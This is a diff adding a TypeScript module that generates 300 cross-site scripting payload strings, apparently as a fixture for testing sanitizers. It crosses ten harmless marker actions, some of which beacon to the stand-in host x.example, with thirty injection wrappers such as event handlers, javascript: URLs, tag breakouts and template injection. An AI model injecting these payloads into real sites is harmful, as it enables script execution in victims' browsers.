@@ -1,0 +1,48 @@
+const acts = [
+  "alert(1)",
+  "__hit()",
+  "window.__hit=1",
+  "document.title='__hit'",
+  "top['al'+'ert'](1)",
+  "eval('__hit()')",
+  "fetch('//x.example')",
+  "location='javascript:__hit()'",
+  "new Image().src='//x.example'",
+  "self[`__hit`]()",
+] as const;
+
+const forms: readonly ((act: string) => string)[] = [
+  (act) => `<script>${act}</script>`,
+  (act) => `<img src=x onerror=${act}>`,
+  (act) => `"><svg onload=${act}>`,
+  (act) => `'><svg/onload=${act}>`,
+  (act) => `javascript:${act}`,
+  (act) => `';${act};'`,
+  (act) => `{{constructor.constructor("${act}")()}}`,
+  (act) => `\${${act}}`,
+  (act) => `<iframe src="javascript:${act}">`,
+  (act) => `<a href="javascript:${act}">x</a>`,
+  (act) => `<math></table><img src=x onerror=${act}>`,
+  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
+  (act) => `%3Cscript%3E${act}%3C/script%3E`,
+  (act) => `<details open ontoggle=${act}>`,
+  (act) => `<style>*{x:expression(${act})}</style>`,
+  (act) => `</title><script>${act}</script>`,
+  (act) => `</textarea><script>${act}</script>`,
+  (act) => `]]><script>${act}</script>`,
+  (act) => `--><script>${act}</script>`,
+  (act) => `<input autofocus onfocus=${act}>`,
+  (act) => `<video><source onerror=${act}>`,
+  (act) => `<object data="javascript:${act}">`,
+  (act) => `<base href="//x.example"><b>${act}`,
+  (act) => `<meta http-equiv=refresh content="0;javascript:${act}">`,
+  (act) => `<form action="javascript:${act}"><button>`,
+  (act) => `data:text/html,<script>${act}</script>`,
+  (act) => `=HYPERLINK("javascript:${act}")`,
+  (act) => `<svg><animate onbegin=${act} attributeName=x>`,
+  (act) => `<marquee onstart=${act}>`,
+  (act) => `<body onload=${act}>`,
+];
+
+/** 300 texts that are scripts to whatever takes them for anything but text. */
+export const injections: readonly string[] = forms.flatMap((form) => acts.map(form));
